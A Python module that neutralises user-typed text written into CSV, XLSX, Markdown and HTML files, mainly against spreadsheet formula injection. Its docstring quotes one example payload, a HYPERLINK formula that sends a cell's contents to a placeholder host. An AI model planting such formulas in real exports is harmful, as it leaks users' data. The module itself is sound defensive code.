"""The one place that decides how text a person typed goes into a file others open.

A name such as ``=HYPERLINK("http://x/?"&A1,"klik")`` must stay text everywhere: a spreadsheet must not run it
(CSV: ``defusedcsv`` prefixes such cells with an apostrophe; XLSX: every cell is stored as a string, never as a
formula), Markdown must not format it, and HTML must not interpret it."""

from __future__ import annotations

import html
import io
from collections.abc import Iterable, Sequence

from defusedcsv import csv as defused_csv
from openpyxl.worksheet.worksheet import Worksheet

BOM = "\ufeff"  # a Polish Excel opens UTF-8 CSV correctly on double-click only with it
_MARKDOWN_SPECIAL = "\\`*_{}[]()#+-.!|<>"


def csv_bytes(rows: Iterable[Sequence[str]]) -> bytes:
    """Semicolon-separated UTF-8 with a BOM; cells that a spreadsheet would run are made inert."""
    buffer = io.StringIO()
    defused_csv.writer(buffer, delimiter=";").writerows(rows)
    return (BOM + buffer.getvalue()).encode("utf-8")


def xlsx_append_text(sheet: Worksheet, row: Sequence[str]) -> None:
    """Append a row whose every cell is stored as text (openpyxl would store ``=…`` as a formula)."""
    sheet.append(list(row))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def markdown_text(text: str) -> str:
    """Plain text stays plain in Markdown: escape what Markdown would interpret; keep line breaks."""
    escaped = "".join("\\" + ch if ch in _MARKDOWN_SPECIAL else ch for ch in text)
    return escaped.replace("\n", "  \n")


def html_text(text: str) -> str:
    return html.escape(text, quote=True)
